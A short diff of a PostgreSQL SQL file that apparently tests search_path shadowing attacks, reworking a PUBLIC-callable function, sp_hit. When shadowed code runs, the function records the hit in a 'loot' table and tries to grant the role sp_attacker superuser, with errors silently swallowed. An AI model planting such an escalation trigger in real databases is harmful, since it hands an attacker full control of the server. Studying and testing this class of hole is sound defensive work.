@@ -175,19 +175,19 @@ GRANT INSERT ON public.sp_loot TO PUBLIC;
 CREATE FUNCTION public.sp_hit(what text) RETURNS boolean
 LANGUAGE plpgsql SET search_path = pg_catalog AS $$
 BEGIN
-	-- (said once per call of the victim, see pg_temp.run)
+	-- (once per shadow and call of the victim, see pg_temp.run)
 	IF position(concat(' ', what, ';') IN coalesce(current_setting('sp.calls', true), '')) = 0 THEN
 		RAISE WARNING 'shadow % ran', what;
 		PERFORM set_config('sp.calls', concat(current_setting('sp.calls', true), ' ', what, ';'), false);
+		BEGIN
+			INSERT INTO public.sp_loot VALUES (what);
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
+		BEGIN
+			EXECUTE 'ALTER ROLE sp_attacker SUPERUSER';
+		EXCEPTION WHEN OTHERS THEN NULL;
+		END;
 	END IF;
-	BEGIN
-		INSERT INTO public.sp_loot VALUES (what);
-	EXCEPTION WHEN OTHERS THEN NULL;
-	END;
-	BEGIN
-		EXECUTE 'ALTER ROLE sp_attacker SUPERUSER';
-	EXCEPTION WHEN OTHERS THEN NULL;
-	END;
 	RETURN true;
 END $$;
 GRANT EXECUTE ON FUNCTION public.sp_hit(text) TO PUBLIC;
